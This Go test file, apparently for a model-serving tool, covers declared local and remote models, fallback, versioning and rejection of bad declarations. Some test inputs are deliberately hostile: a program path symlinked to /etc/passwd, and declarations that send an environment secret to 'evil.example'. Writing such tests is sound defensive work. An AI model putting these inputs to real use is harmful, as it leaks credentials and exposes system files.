package app

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/leat-ai/leat/base/fault"
	"github.com/leat-ai/leat/guard/identity"
	"github.com/leat-ai/leat/surface/client"
	"github.com/leat-ai/leat/surface/server"
)

const scorer = `
inputs = {"amount": "double", "country": "string"}
outputs = {"score": "double", "label": "string"}

def predict(frame):
    amounts = list(frame["amount"])
    return {"score": [min(1, max(0, a / FACTOR)) for a in amounts], "label": ["yes" if a / FACTOR >= 0.5 else "no" for a in amounts]}
`

const declaredProject = `
kind: Model
name: local
process: {from: models/local.py}
task: binary
classes: [no, yes]
---
kind: Model
name: elsewhere
remote: {protocol: oip, url: "URL", model: fraud, fallback: local, timeout: 2s, attempts: 1}
task: binary
classes: [no, yes]
---
kind: Model
name: both
compose:
  switch:
    - {when: country = 'SE', model: elsewhere}
    - {model: local}
---
kind: Endpoint
name: both
model: both
---
kind: Endpoint
name: elsewhere
model: elsewhere
`

// otherServer speaks the Open Inference Protocol; its score is always 0.9.
func otherServer(t *testing.T, broken *atomic.Bool) string {
	mux := http.NewServeMux()
	answer := func(w http.ResponseWriter, body any) {
		if broken.Load() {
			w.WriteHeader(http.StatusServiceUnavailable)
			return
		}
		_ = json.NewEncoder(w).Encode(body)
	}
	mux.HandleFunc("GET /v2/models/fraud", func(w http.ResponseWriter, _ *http.Request) {
		answer(w, map[string]any{"name": "fraud", "inputs": []map[string]any{
			{"name": "amount", "datatype": "FP64", "shape": []int{-1}}, {"name": "country", "datatype": "BYTES", "shape": []int{-1}}},
			"outputs": []map[string]any{{"name": "score", "datatype": "FP64", "shape": []int{-1}}, {"name": "label", "datatype": "BYTES", "shape": []int{-1}}}})
	})
	mux.HandleFunc("POST /v2/models/fraud/infer", func(w http.ResponseWriter, _ *http.Request) {
		answer(w, map[string]any{"outputs": []map[string]any{
			{"name": "score", "datatype": "FP64", "shape": []int{1}, "data": []float64{0.9}},
			{"name": "label", "datatype": "BYTES", "shape": []int{1}, "data": []string{"yes"}}}})
	})
	s := httptest.NewServer(mux)
	t.Cleanup(s.Close)
	return s.URL
}

func declaredFolder(t *testing.T, address string) string {
	dir := t.TempDir()
	for name, text := range map[string]string{
		"leat.yaml": strings.ReplaceAll(declaredProject, "URL", address), "models/local.py": strings.ReplaceAll(scorer, "FACTOR", "100"),
	} {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestDeclaredModelsServe applies a project of a program, a server and a
// switch between them, and asks it while the server is there and while not.
func TestDeclaredModelsServe(t *testing.T) {
	var broken atomic.Bool
	dir := declaredFolder(t, otherServer(t, &broken))
	a, err := launch(t.Context(), Config{Project: dir, Home: filepath.Join(dir, "home"), Silent: true, Egress: "127.0.0.1"})
	if err != nil {
		t.Fatal(err, fault.HintOf(err))
	}
	t.Cleanup(func() {
		if err := stopped(a); err != nil {
			t.Error(err)
		}
	})
	ask := func(endpoint, country string, amount float64) (client.Scored, client.Decision) {
		t.Helper()
		got, err := a.Client().Score(t.Context(), endpoint, []client.Row{{"amount": amount, "country": country}}, "")
		if err != nil || len(got.Decisions) != 1 {
			t.Fatal(err, fault.HintOf(err))
		}
		if e := got.Decisions[0].Error; e != nil {
			t.Fatalf("%s: %s", e.Message, e.Hint)
		}
		return got, got.Decisions[0]
	}
	if s, d := ask("both", "SE", 20); d.Values["score"] != 0.9 || s.Variant != "stable" || s.ServedBy != "" {
		t.Errorf("%+v %v", s, d)
	}
	if _, d := ask("both", "NO", 20); d.Values["score"] != 0.2 || d.Values["label"] != "no" {
		t.Errorf("%v", d)
	}
	broken.Store(true)
	if s, d := ask("both", "SE", 20); d.Values["score"] != 0.2 || s.Variant != "fallback" || s.ServedBy != "local@1" {
		t.Errorf("%+v %v", s, d)
	}
	if s, d := ask("elsewhere", "SE", 70); d.Values["score"] != 0.7 || s.Variant != "fallback" {
		t.Errorf("%+v %v", s, d)
	}
	broken.Store(false)
	declaredAgain(t, a, dir)
	if _, d := ask("both", "NO", 20); d.Values["score"] != 0.4 {
		t.Errorf("the endpoint does not serve what its part is now: %v", d)
	}
}

// declaredAgain applies the project as it is, and with a changed program.
func declaredAgain(t *testing.T, a *App, dir string) {
	t.Helper()
	project, err := files(dir)
	if err != nil {
		t.Fatal(err)
	}
	again, err := a.Client().Apply(t.Context(), project)
	if err != nil || !again.Plan.Empty() {
		t.Fatal(again.Plan, err)
	}
	for _, v := range again.Versions {
		if v.New || v.Version != 1 {
			t.Errorf("the same declaration of %s is version %d, new %v", v.Model, v.Version, v.New)
		}
	}
	changed := strings.ReplaceAll(scorer, "FACTOR", "50")
	if err := os.WriteFile(filepath.Join(dir, "models/local.py"), []byte(changed), 0o600); err != nil {
		t.Fatal(err)
	}
	plan, err := a.Client().Plan(t.Context(), project)
	if err != nil || !plan.Empty() || len(plan.Notes) != 3 || plan.Notes[0] != "a version of model local will be registered as champion" {
		t.Errorf("the plan is %+v, %v", plan, err)
	}
	again, err = a.Client().Apply(t.Context(), project)
	if err != nil {
		t.Fatal(err, fault.HintOf(err))
	}
	for _, v := range again.Versions { // what is made of it is new, too
		if !v.New || v.Version != 2 {
			t.Errorf("after a change of its part, %s is version %d, new %v", v.Model, v.Version, v.New)
		}
	}
	if len(again.Versions) != 3 {
		t.Errorf("%d versions", len(again.Versions))
	}
}

func TestMistakesOfDeclarations(t *testing.T) {
	var broken atomic.Bool
	address := otherServer(t, &broken)
	dir := declaredFolder(t, address)
	a, err := Start(t.Context(), Config{Project: dir, Home: filepath.Join(dir, "home"), Silent: true, Egress: "127.0.0.1"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := stopped(a); err != nil {
			t.Error(err)
		}
	})
	for want, text := range map[string]string{
		"leat.yaml:1:1":   "kind: Model\nname: m\nprocess: {from: models/none}\n",
		"may not be":      "kind: Model\nname: m\nprocess: {from: linked, command: [./run]}\n",
		"answers 404":     "kind: Model\nname: m\nremote: {protocol: oip, url: \"" + address + "\", model: nobody}\n",
		"without TLS":     "kind: Model\nname: m\nremote: {protocol: oip, url: \"http://10.1.2.3\", model: nobody, timeout: 1s}\n",
		"made of itself":  "kind: Model\nname: m\ncompose: {sequence: [m]}\n",
		"declared in 2":   "kind: Model\nname: m\ncompose: {sequence: [m@1]}\nprocess: {from: x}\n",
		"has no column q": "kind: Model\nname: p\nprocess: {from: models/local.py}\n---\nkind: Model\nname: m\ncompose:\n  switch: [{when: q > 1, model: p}, {model: p}]\n",
	} {
		if want == "may not be" {
			if err := os.MkdirAll(filepath.Join(dir, "linked"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("/etc/passwd", filepath.Join(dir, "linked", "run")); err != nil {
				t.Fatal(err)
			}
		}
		_, err := a.Client().Apply(t.Context(), map[string]string{"leat.yaml": text})
		if err == nil || !strings.Contains(err.Error()+fault.HintOf(err), strings.TrimPrefix(want, "has no column ")) {
			t.Errorf("%v (%s), want %q", err, fault.HintOf(err), want)
		}
	}
	if list, err := a.Client().Resources(t.Context()); err != nil || len(list) != 0 {
		t.Errorf("%d resources are in force after nothing but mistakes, %v", len(list), err)
	}
}

// Programs do not run where others than this machine can reach the server,
// and not for who may only apply.
func TestProgramsNeedLeave(t *testing.T) {
	for listen, want := range map[string]bool{"127.0.0.1:0": true, "localhost:80": true, "[::1]:80": true, "0.0.0.0:80": false, ":80": false, "10.0.0.1:80": false} {
		a := &App{config: Config{Server: server.Config{Listen: listen}}}
		if got := a.programs() == nil; got != want {
			t.Errorf("on %s programs run: %v", listen, got)
		}
		a.config.AllowProcess = true
		if a.programs() != nil {
			t.Errorf("on %s programs do not run with leave", listen)
		}
	}
	list, err := (project{&App{config: Config{Env: "default"}}}).parse(map[string]string{"leat.yaml": `
kind: Model
name: a
process: {from: models/local.py}
---
kind: Model
name: b
remote: {protocol: azureml, url: "https://evil.example", secret: env:OTHERS}
inputs: {x: double}
outputs: {y: double}
---
kind: Source
name: c
from: https://evil.example/rows.csv
secret: env:OTHERS
`})
	if err != nil {
		t.Fatal(err)
	}
	ctx := identity.With(t.Context(), identity.Principal{Name: "deployer", Grants: []string{"apply:*"}})
	err = confined(ctx, list)
	if !fault.Is(err, fault.Forbidden) || !strings.Contains(err.Error(), "runs a program") || strings.Count(err.Error(), "sends a secret") != 2 {
		t.Error(err)
	}
}
